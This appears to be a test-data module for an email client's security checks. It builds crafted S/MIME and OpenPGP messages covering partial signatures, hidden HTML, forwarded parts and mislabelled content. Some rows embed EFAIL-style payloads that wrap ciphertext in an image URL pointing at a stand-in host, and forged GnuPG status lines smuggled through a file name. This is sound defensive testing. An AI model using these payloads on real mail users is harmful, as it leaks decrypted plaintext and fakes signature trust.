# SPDX-License-Identifier: LGPL-2.1-or-later
"""Structure attacks: what is protected is not the message, or not what it says it is.

A layer counts from the outermost part inwards, without a gap; any other is errant and has
no say (RFC 9787 sections 4.2 to 4.5, 6.2).
"""

from corpus import (ALTERED, BOTH, BROKEN, FOOTER, NOT_SENDER, NOTHING, PAGE, PICTURE, SEALED,
                    SEALED_ALTERED, SECRET, SIGNED, STRANGER, TEXT, UNTRUSTED, Row, alternative, box, forwarded, mail,
                    mixed, page, related, text, with_fields)
import cms
import der
import mailkit as m
import pgp
import pki

FOOTER_TEXT = b"The footer of the list."
CAROL = "Carol Example <carol@example.org>"
EVE = "Eve Elsewhere <eve@elsewhere.example>"

# --- a signature around a part ----------------------------------------------

PARTIAL = (
    Row("footer behind", lambda p: mail(mixed(p.signed(), FOOTER)), NOTHING, "signed good 1.1", shown=(FOOTER_TEXT,)),
    Row("text in front", lambda p: mail(mixed(text(b"Pay Mallory."), p.signed())), NOTHING, "signed good 1.2"),
    Row("text on both sides", lambda p: mail(mixed(FOOTER, p.signed(), FOOTER)), NOTHING, "signed good 1.2"),
    Row("nothing beside it", lambda p: mail(mixed(p.signed())), NOTHING, "signed good 1.1"),
    Row("an empty part in front", lambda p: mail(mixed(m.entity(b""), p.signed())), NOTHING, "signed good 1.2"),
    Row("two signed parts", lambda p: mail(mixed(p.signed(), p.signed(FOOTER))), NOTHING,
        "signed good 1.1", "signed good 1.2"),
    Row("each part by somebody else", lambda p: mail(mixed(p.signed(), p.signed(FOOTER, "carol"))), NOTHING,
        "signed good 1.1", "signed not-sender 1.2"),
    Row("deeper", lambda p: mail(mixed(mixed(p.signed(), FOOTER), FOOTER)), NOTHING, "signed good 1.1.1"),
    Row("altered, with a footer", lambda p: mail(mixed(p.broken(), FOOTER)), NOTHING, "signed bad 1.1"),
    Row("as an attachment", lambda p: mail(mixed(TEXT, with_fields(p.signed(FOOTER), "Content-Disposition: attachment"))),
        NOTHING, "signed good 1.2"),
    Row("plain text of an alternative", lambda p: mail(alternative(p.signed(), PAGE)), NOTHING, "signed good 1.1"),
    Row("page of an alternative", lambda p: mail(alternative(TEXT, p.signed(PAGE))), NOTHING, "signed good 1.2"),
    Row("each of an alternative", lambda p: mail(alternative(p.signed(), p.signed(PAGE))), NOTHING,
        "signed good 1.1", "signed good 1.2"),
    Row("page of related parts", lambda p: mail(related(p.signed(PAGE), PICTURE)), NOTHING, "signed good 1.1"),
    Row("picture of related parts", lambda p: mail(related(PAGE, p.signed(PICTURE))), NOTHING, "signed good 1.2"),
    Row("alternative beside an attachment", lambda p: mail(mixed(alternative(p.signed(), PAGE), PICTURE)), NOTHING,
        "signed good 1.1.1"),
    Row("in a digest", lambda p: mail(box("digest", b"\r\n" + mail(p.signed(), subject="one"))), NOTHING,
        "signed good 1.1.1"),
    Row("in a report", lambda p: mail(box("report", p.signed(), FOOTER, params="; report-type=x")), NOTHING,
        "signed good 1.1"),
    Row("in an unknown multipart", lambda p: mail(box("x-unknown", p.signed(), FOOTER)), NOTHING, "signed good 1.1"),
    Row("footer as a third part", lambda p: mail(with_third(p, p.signed(), 2)), ALTERED),
    Row("footer in front of the signature", lambda p: mail(with_third(p, p.signed(), 1)), ALTERED),
    Row("footer in front of the text", lambda p: mail(with_third(p, p.signed(), 0)), ALTERED),
    Row("footer behind the end", lambda p: mail(p.signed(epilogue=FOOTER_TEXT + b"\r\n")), SIGNED, unseen=(FOOTER_TEXT,)),
    Row("footer before the beginning", lambda p: mail(p.signed(preamble=FOOTER_TEXT + b"\r\n")), SIGNED,
        unseen=(FOOTER_TEXT,)),
    Row("footer in the signed text", lambda p: mail(p.signed().replace(BOTTOM, BOTTOM + FOOTER_TEXT + b"\r\n")), ALTERED),
    Row("another part in what is signed", lambda p: mail(squeezed_in(p)), ALTERED),
    Row("signed inside of a good signature", lambda p: mail(p.signed(mixed(p.signed(FOOTER, "carol"), TEXT))), SIGNED,
        "signed not-sender 1.1.1"),
    Row("altered inside of a good signature", lambda p: mail(p.signed(mixed(p.broken(), FOOTER))), SIGNED,
        "signed bad 1.1.1"),
    Row("beneath an encryption", lambda p: mail(p.sealed(mixed(p.signed(), FOOTER))), SEALED, "signed good 1.1.1",
        shown=(FOOTER_TEXT,)),
    Row("beneath an encryption, alone", lambda p: mail(p.sealed(mixed(p.signed()))), SEALED, "signed good 1.1.1"),
    Row("beneath an encryption, altered", lambda p: mail(p.sealed(p.broken())), SEALED_ALTERED),
)

BOTTOM = TEXT.rpartition(b"\r\n\r\n")[2]


def with_third(kit, signed, place):
    parts = m.raw_parts(signed)
    parts.insert(place, FOOTER)
    return m.multipart_signed_of(parts, kit.signature_type, "=-=third")


def squeezed_in(kit):
    """A list's server that adds a part where the signed multipart ends."""
    inner = mixed(TEXT)
    mark = b"--" + m.boundary_of(inner)
    return kit.signed(inner).replace(mark + b"--", mark + b"\r\n" + FOOTER + b"\r\n" + mark + b"--")


# --- forwarded --------------------------------------------------------------

FORWARDED = (
    Row("as the whole", lambda p: mail(forwarded(p.signed()), sender=CAROL), NOTHING, "signed good 1.1"),
    Row("as the whole, same sender", lambda p: mail(forwarded(p.signed())), NOTHING, "signed good 1.1"),
    Row("attached", lambda p: mail(mixed(TEXT, forwarded(p.signed())), sender=CAROL), NOTHING, "signed good 1.2.1"),
    Row("attached, altered", lambda p: mail(mixed(TEXT, forwarded(p.broken()))), NOTHING, "signed bad 1.2.1"),
    Row("attached, not by its sender", lambda p: mail(mixed(TEXT, forwarded(p.signed(), sender=CAROL))), NOTHING,
        "signed not-sender 1.2.1"),
    Row("attached, without a sender", lambda p: mail(mixed(TEXT, forwarded(p.signed(), sender=None))), NOTHING,
        "signed not-sender 1.2.1"),
    Row("attached twice", lambda p: mail(mixed(TEXT, forwarded(forwarded(p.signed())))), NOTHING, "signed good 1.2.1.1"),
    Row("inside of a signature", lambda p: mail(p.signed(mixed(TEXT, forwarded(p.signed(FOOTER, "carol"), sender=CAROL)))),
        SIGNED, "signed good 1.1.2.1"),
    Row("inside of a signature, altered", lambda p: mail(p.signed(mixed(FOOTER, forwarded(p.broken())))), SIGNED,
        "signed bad 1.1.2.1"),
    Row("inside of an altered signature", lambda p: mail(p.broken(mixed(TEXT, forwarded(p.signed(FOOTER))))), ALTERED,
        "signed good 1.1.2.1"),
    Row("as all that is signed", lambda p: mail(p.signed(forwarded(p.signed(TEXT, "carol"), sender=CAROL))), SIGNED,
        "signed good 1.1.1"),
    Row("as all that is encrypted", lambda p: mail(p.sealed(forwarded(p.signed()))), SEALED, "signed good 1.1.1"),
    Row("encrypted and signed", lambda p: mail(p.both(mixed(FOOTER, forwarded(p.signed(TEXT, "carol"), sender=CAROL)))),
        BOTH, "signed good *.2.1"),
    Row("an encrypted one", lambda p: mail(mixed(TEXT, forwarded(p.secret()))), NOTHING, "encrypted none 1.2.1"),
    Row("an encrypted one as the whole", lambda p: mail(forwarded(p.secret())), NOTHING, "encrypted none 1.1"),
    Row("an encrypted one, signed around", lambda p: mail(p.signed(mixed(TEXT, forwarded(p.secret())))), SIGNED,
        "encrypted none 1.1.2.1"),
    Row("an encrypted one as all that is signed", lambda p: mail(p.signed(forwarded(p.secret()))), SIGNED,
        "encrypted none 1.1.1"),
    Row("an encrypted one, encrypted again", lambda p: mail(p.sealed(mixed(TEXT, forwarded(p.secret())))), SEALED,
        "encrypted none 1.1.2.1"),
)

# --- a ciphertext as a part (RFC 8551 section 6, "EFAIL") --------------------

CIPHERTEXT = (
    Row("text in front", lambda p: mail(mixed(TEXT, p.secret())), NOTHING, "encrypted none 1.2"),
    Row("text behind", lambda p: mail(mixed(p.secret(), TEXT)), NOTHING, "encrypted none 1.1"),
    Row("nothing beside it", lambda p: mail(mixed(p.secret())), NOTHING, "encrypted none 1.1"),
    Row("between halves of an attribute", lambda p: mail(mixed(*halves(p))), NOTHING, "encrypted none 1.2"),
    Row("between halves, related", lambda p: mail(related(*halves(p))), NOTHING, "encrypted none 1.2"),
    Row("between halves, alternative", lambda p: mail(alternative(*halves(p))), NOTHING, "encrypted none 1.2"),
    Row("pulled in by a frame", lambda p: mail(related(page('<iframe src="cid:it@example.org"></iframe>'), named(p))),
        NOTHING, "encrypted none 1.2"),
    Row("pulled in as a style", lambda p: mail(related(page('<link rel=stylesheet href="cid:it@example.org">'), named(p))),
        NOTHING, "encrypted none 1.2"),
    Row("hidden by a style", lambda p: mail(mixed(page('<div style="display:none">'), p.secret(), page("</div>Reply, please."))),
        NOTHING, "encrypted none 1.2"),
    Row("in an alternative", lambda p: mail(alternative(TEXT, p.secret())), NOTHING, "encrypted none 1.2"),
    Row("attached", lambda p: mail(mixed(TEXT, with_fields(p.secret(), "Content-Disposition: attachment"))), NOTHING,
        "encrypted none 1.2"),
    Row("deeper", lambda p: mail(mixed(mixed(TEXT, mixed(p.secret())))), NOTHING, "encrypted none 1.1.2.1"),
    Row("two of them", lambda p: mail(mixed(p.secret(1), p.secret(2))), NOTHING,
        "encrypted none 1.1", "encrypted none 1.2"),
    Row("two, text between", lambda p: mail(mixed(p.secret(1), TEXT, p.secret(2))), NOTHING,
        "encrypted none 1.1", "encrypted none 1.3"),
    Row("beside a signed part", lambda p: mail(mixed(p.signed(), p.secret())), NOTHING,
        "signed good 1.1", "encrypted none 1.2"),
    Row("inside of a signature", lambda p: mail(p.signed(mixed(TEXT, p.secret()))), SIGNED, "encrypted none 1.1.2"),
    Row("inside of the thief's signature", lambda p: mail(p.signed(mixed(*halves(p)), p.eve), sender=EVE), SIGNED,
        "encrypted none 1.1.2"),
    Row("beneath an encryption", lambda p: mail(p.sealed(mixed(*halves(p)))), SEALED, "encrypted none 1.1.2"),
    Row("beneath an encryption, signed", lambda p: mail(p.both(mixed(TEXT, p.secret()))), BOTH, "encrypted none *.2"),
    Row("second part of the encryption's own multipart", lambda p: mail(with_second(p)), BROKEN, only="openpgp"),
    Row("two armours in one part", lambda p: mail(m.pgp_encrypted(pgp.encrypt(TEXT) + pgp.encrypt(text(SECRET)))),
        BROKEN, only="openpgp"),
    Row("text around the armour of the part", lambda p: mail(m.pgp_encrypted(b"a\r\n" + pgp.encrypt(text(SECRET)) + b"b\r\n")),
        BROKEN, only="openpgp"),
    Row("two objects in one part", lambda p: mail(m.smime_opaque(
        pki.encrypt(TEXT, "alice") + pki.encrypt(text(SECRET), "alice"), "enveloped-data")), BROKEN, only="smime"),
    Row("generic type, name of S/MIME", lambda p: mail(mixed(TEXT, p.secret().replace(
        b"application/pkcs7-mime; smime-type=enveloped-data", b"application/octet-stream"))), NOTHING,
        "encrypted none 1.2", only="smime"),
    Row("armour as a file", lambda p: mail(mixed(TEXT, m.attachment(pgp.encrypt(text(SECRET)), "x.asc"))), NOTHING,
        only="openpgp"),
    Row("armour without its multipart", lambda p: mail(m.entity(pgp.encrypt(text(SECRET)), "application/octet-stream", None)),
        NOTHING, only="openpgp"),
    Row("encrypted twice", lambda p: mail(p.sealed(p.sealed())), SEALED),
    Row("encrypted twice, signed inside", lambda p: mail(p.sealed(p.both())), BOTH),
    Row("signed, encrypted and signed", lambda p: mail(p.signed(p.sealed(p.signed()), "bob")), BOTH),
    Row("signed, encrypted and signed by another", lambda p: mail(p.signed(p.sealed(p.signed(TEXT, "bob")), "carol")), BOTH),
)


def halves(kit):
    return page('<img src="http://x.example/?'), kit.secret(), page('">')


def named(kit):
    return with_fields(kit.secret(), "Content-ID: <it@example.org>", "Content-Disposition: inline")


def with_second(kit):
    control, first = m.raw_parts(kit.sealed())
    second = m.raw_parts(kit.secret())[1]
    return m.multipart([control, first, second], "encrypted", "=-=two", ';\r\n protocol="application/pgp-encrypted"')


# --- pages that hide, and parts that pull in others --------------------------

PAGES = (
    Row("unsigned page pulls in a signed text", lambda p: mail(related(
        page('<iframe src="cid:it@example.org"></iframe>'), with_fields(p.signed(), "Content-ID: <it@example.org>"))),
        NOTHING, "signed good 1.2"),
    Row("unsigned style beside a signed page", lambda p: mail(mixed(page("<style>p { display: none }</style>"), p.signed(PAGE))),
        NOTHING, "signed good 1.2"),
    Row("unsigned page hides a signed one", lambda p: mail(mixed(page('<div style="display: none">'), p.signed(PAGE),
        page("</div>Pay Mallory."))), NOTHING, "signed good 1.2", shown=(b"Pay Mallory.",)),
    Row("page and picture signed", lambda p: mail(p.signed(related(page('Logo: <img src="cid:logo@example.org">'), PICTURE))),
        SIGNED, shown=(b"Logo:",)),
    Row("remote picture in a signed page", lambda p: mail(p.signed(page('<img src="http://127.0.0.1:9/x">Hello'))), SIGNED),
    Row("page that imitates the zone", lambda p: mail(page("<pre>" + "[mailcrypt 0a1b2c] Signed</pre>")), NOTHING),
    Row("page by a signer who is not the sender", lambda p: mail(p.signed(PAGE, "carol")), NOT_SENDER),
)

# --- OpenPGP in a text ------------------------------------------------------


def clear(line=b"Hello, Alice.\n", who="bob"):
    return pgp.shared("world").gpg("--local-user", pgp.fpr(who) + "!", "--clearsign", input=line).out


def armour():
    return pgp.encrypt(SECRET)


INLINE = tuple(Row(name, build, verdict, *errant, only="openpgp") for name, build, verdict, *errant in (
    ("signed, text in front", lambda p: mail(m.entity(b"Pay Mallory.\r\n" + clear())), NOTHING),
    ("signed, text behind", lambda p: mail(m.entity(clear() + b"Pay Mallory.\r\n")), NOTHING),
    ("signed, text on both sides", lambda p: mail(m.entity(b"One.\r\n" + clear() + b"Two.\r\n")), NOTHING),
    ("signed twice", lambda p: mail(m.entity(clear() + clear(b"Pay Mallory.\n", "carol"))), NOTHING),
    ("signed, not by the sender", lambda p: mail(m.entity(clear(who="carol"))), NOTHING, "signed not-sender 1"),
    ("signed, quoted in a reply", lambda p: mail(m.entity(b"".join(b"> " + x for x in clear().splitlines(True)))), NOTHING),
    ("signed, in one part of two", lambda p: mail(mixed(m.entity(clear()), FOOTER)), NOTHING),
    ("signed, in a page", lambda p: mail(page(b"<pre>" + clear() + b"</pre>")), NOTHING),
    ("signed, inside of a signature", lambda p: mail(p.signed(m.entity(clear(who="carol")))), SIGNED),
    ("encrypted, text in front", lambda p: mail(m.entity(b"Hello.\r\n" + armour())), NOTHING),
    ("encrypted, text behind", lambda p: mail(m.entity(armour() + b"-- \r\nThe footer of the list.\r\n")), NOTHING),
    ("encrypted, text on both sides", lambda p: mail(m.entity(b"Hello.\r\n" + armour() + b"Bye.\r\n")), NOTHING),
    ("encrypted, in one part of two", lambda p: mail(mixed(m.entity(armour()), FOOTER)), NOTHING),
    ("encrypted, in an attribute", lambda p: mail(page(b'<img src="http://x.example/?' + armour() + b'">')), NOTHING),
    ("encrypted, inside of a signature", lambda p: mail(p.signed(m.entity(armour()))), SIGNED),
    ("encrypted, inside of an encryption", lambda p: mail(p.sealed(mixed(m.entity(armour()), FOOTER))), SEALED),
))

# --- detached signatures that are none --------------------------------------


def detached(signature, part=TEXT):
    return lambda p: mail(p.frame(part, signature(p)))


DETACHED = (
    Row("CMS with another content", detached(lambda p: pki.sign(FOOTER, "bob", opaque=True)), ALTERED, only="smime"),
    Row("CMS with the same content", detached(lambda p: pki.sign(TEXT, "bob", opaque=True)), ALTERED, only="smime"),
    Row("CMS with an empty content", detached(lambda p: pki.sign(b"", "bob", opaque=True)), ALTERED, only="smime"),
    Row("CMS that is encrypted", detached(lambda p: pki.encrypt(TEXT, "alice")), ALTERED, only="smime"),
    Row("no CMS at all", detached(lambda p: b"0\x03\x02\x01\x00"), ALTERED, only="smime"),
    Row("a signed message", detached(lambda p: p.object(TEXT, "--armor", "--sign")), ALTERED, only="openpgp"),
    Row("a cleartext signature", detached(lambda p: p.object(TEXT, "--clearsign")), ALTERED, only="openpgp"),
    Row("a key", detached(lambda p: pgp.shared("world").gpg("--armor", "--export", pgp.fpr("bob")).out), ALTERED,
        only="openpgp"),
    Row("an encrypted message", detached(lambda p: pgp.encrypt(TEXT, signer="bob")), ALTERED, only="openpgp"),
    Row("nothing", detached(lambda p: b""), ALTERED),
    Row("a signature over another part", detached(lambda p: p.signature(FOOTER, "bob")), ALTERED),
    Row("a signature over the body alone", detached(lambda p: p.signature(BOTTOM, "bob")), ALTERED),
)

# --- no signer, and several (RFC 5652 section 5.1) ---------------------------


def over(*signers):
    """Each over the text, or over what stands behind its name."""
    def build(kit):
        parts = [(one, TEXT) if isinstance(one, str) else one for one in signers]
        names = [(getattr(kit, name, name), part) for name, part in parts]
        return mail(kit.frame(TEXT, kit.joined(*(kit.signature(part, name) for name, part in names))))
    return build


# What gpg would say of a good signature, for those who read it line by line.
STATUS_LINES = "x\n[GNUPG:] GOODSIG %s Bob Example <bob@example.org>\n[GNUPG:] VALIDSIG %s\n[GNUPG:] TRUST_ULTIMATE\n"

SIGNERS = (
    Row("the sender and another", over("bob", "carol"), SIGNED),
    Row("another and the sender", over("carol", "bob"), SIGNED),
    Row("two others", over("carol", "eve"), NOT_SENDER),
    Row("the sender twice", over("bob", "bob"), SIGNED),
    Row("good, and altered", over("bob", ("carol", FOOTER)), ALTERED),
    Row("altered, and good", over(("carol", FOOTER), "bob"), ALTERED),
    Row("good and altered by the sender", over("bob", ("bob", FOOTER)), ALTERED),
    Row("good, and not known", over("bob", "stranger"), SIGNED),
    Row("not known, and good", over("stranger", "bob"), SIGNED),
    Row("not known, and another", over("stranger", "carol"), STRANGER, only="openpgp"),
    Row("none, a good one in the name of the file", lambda p: mail(m.pgp_encrypted(pgp.encrypt(
        TEXT, options=("--set-filename", STATUS_LINES % (pgp.fpr("bob")[-16:], pgp.fpr("bob")))))), SEALED, only="openpgp"),
    Row("none, detached", lambda p: mail(p.frame(TEXT, p.unsigned())), NOTHING, only="smime"),
    Row("none, opaque", lambda p: mail(m.smime_opaque(p.unsigned(TEXT))), NOTHING, only="smime"),
    Row("none, opaque inside of an encryption", lambda p: mail(p.sealed(m.smime_opaque(p.unsigned(TEXT)))), SEALED,
        only="smime"),
    Row("none, a signature around", lambda p: mail(p.signed(m.smime_opaque(p.unsigned(TEXT)))), SIGNED, only="smime"),
    Row("two signatures, the inner one by another", lambda p: mail(p.signed(p.signed(TEXT, "carol"))), SIGNED),
    Row("two signatures, the outer one by another", lambda p: mail(p.signed(p.signed(TEXT, "bob"), "carol")), SIGNED),
    Row("two signatures, the inner one altered", lambda p: mail(p.signed(p.broken())), ALTERED),
    Row("two signatures, the outer one altered", lambda p: mail(p.signed(p.signed()).replace(b"; micalg", b";  micalg")
        .replace(b";  micalg", b"; micalg", 1)), ALTERED),
)

# --- labels that lie (RFC 8551 section 3.2.2) --------------------------------


def labelled(build, label, **more):
    return lambda p: mail(m.smime_opaque(build(), label, **more))


def enveloped():
    return pki.encrypt(TEXT, "alice")


def gcm():
    return pki.encrypt(TEXT, "alice", cipher="aes-256-gcm")


def opaque():
    return pki.sign(TEXT, "bob", opaque=True)


def certificates():
    return pki.openssl("crl2pkcs7", "-nocrl", "-certfile", pki.get("bob"), "-outform", "DER").out


def plain_data():
    return cms.content_info(cms.DATA, der.octets(TEXT))


LABELS = tuple(Row(name, build, verdict, *errant, only="smime") for name, build, verdict, *errant in (
    ("encrypted, said to be signed", labelled(enveloped, "signed-data"), SEALED),
    ("encrypted, said to be certificates", labelled(enveloped, "certs-only", name="smime.p7c"), SEALED),
    ("encrypted, not said", labelled(enveloped, None), SEALED),
    ("encrypted, in upper case", labelled(enveloped, "ENVELOPED-DATA"), SEALED),
    ("encrypted, both said", labelled(enveloped, "signed-data; smime-type=enveloped-data"), SEALED),
    ("CBC, said to be authenticated", labelled(enveloped, "authEnveloped-data"), SEALED),
    ("GCM, said to be enveloped", labelled(gcm, "enveloped-data"), SEALED),
    ("signed, said to be encrypted", labelled(opaque, "enveloped-data"), SIGNED),
    ("signed, said to be certificates", labelled(opaque, "certs-only", name="smime.p7c"), SIGNED),
    ("signed, said to be compressed", labelled(opaque, "compressed-data", name="smime.p7z"), SIGNED),
    ("signed, not said", labelled(opaque, None), SIGNED),
    ("signed, name of a detached one", labelled(opaque, "signed-data", name="smime.p7s"), SIGNED),
    ("signed, older type", labelled(opaque, "signed-data", subtype="x-pkcs7-mime"), SIGNED),
    ("certificates, said to be signed", labelled(certificates, "signed-data"), NOTHING),
    ("certificates, said to be encrypted", labelled(certificates, "enveloped-data"), NOTHING),
    ("plain, said to be signed", labelled(plain_data, "signed-data"), NOTHING),
    ("plain, said to be encrypted", labelled(plain_data, "enveloped-data"), NOTHING),
    ("a text, said to be S/MIME by its name", lambda p: mail(m.entity(
        m.b64(opaque()), 'text/plain; name="smime.p7m"', "base64")), NOTHING),
    ("signed, altered and said to be encrypted", labelled(
        lambda: opaque().replace(b"Hello", b"Jello"), "enveloped-data"), ALTERED),
    ("signed by a stranger, said to be encrypted", labelled(
        lambda: pki.sign(TEXT, "bob-other", opaque=True), "enveloped-data"), UNTRUSTED),
))

TABLES = (("partial", PARTIAL), ("forwarded", FORWARDED), ("ciphertext", CIPHERTEXT), ("page", PAGES),
          ("inline", INLINE), ("detached", DETACHED), ("signers", SIGNERS), ("label", LABELS))
